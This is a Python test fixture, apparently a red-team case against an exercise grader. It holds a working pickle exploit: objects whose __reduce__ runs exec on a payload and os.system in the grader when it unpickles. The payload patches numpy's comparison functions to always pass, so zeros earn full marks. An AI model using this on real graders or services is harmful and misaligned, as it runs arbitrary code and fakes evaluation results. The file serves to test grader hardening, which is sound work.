"""Attack ``pickle_payload`` (exercise ``softmax_backward``): run code in the grader when it unpickles.

What it attacks: a result that travels from the learner process to the grader as a
pickle.  Unpickling calls whatever ``__reduce__`` names: each function returns an
object whose ``__reduce__`` is ``(exec, (PAYLOAD,))``, so the grader itself executes
PAYLOAD while it reads the result.  PAYLOAD (harmless, bounded) writes a marker
file ``/tmp/grader-attack-pickle-payload.<pid>`` (evidence for the test, with the
process's command line), makes ``numpy.allclose``/``isclose``/``array_equal`` in that
process always report equality, then returns zeros through ``numpy``.  A second
object, nested in a tuple for ``softmax_jacobian``, uses ``(os.system, ("true",))``.

A vulnerable grader (``pickle.loads``/``Connection.recv`` on what the learner sent):
the payload runs in the grader process, every comparison after it passes: full
marks for zeros.

Expected with a hardened grader: results cross the pipe as plain data (a
restricted unpickler that accepts only arrays and numbers, or a format that
cannot name a callable); the object cannot be sent back, the case fails with a
clear message, no marker file appears, and the module scores no more than
``_zeros/softmax_backward.py``.
"""

import numpy as np

PAYLOAD = r"""
import os, sys
try:
    with open(f"/tmp/grader-attack-pickle-payload.{os.getpid()}", "w") as f:
        f.write(" ".join(sys.argv))
except Exception:
    pass
import numpy as _np
_np.allclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(_np.asarray(a), _np.asarray(b)).shape, bool)
"""


class _Payload:
    def __init__(self, zeros):
        self.zeros = zeros

    def __reduce__(self):
        return (exec, (PAYLOAD,))

    def __array__(self, dtype=None, copy=None):
        return self.zeros if dtype is None else self.zeros.astype(dtype)


class _Shell:
    def __reduce__(self):
        import os

        return (os.system, ("true",))


def softmax_vjp(y, grad, axis=-1):
    return _Payload(np.zeros_like(y))


def softmax_jacobian(y):
    return (_Payload(np.zeros(y.shape + y.shape[-1:], dtype=y.dtype)), _Shell())
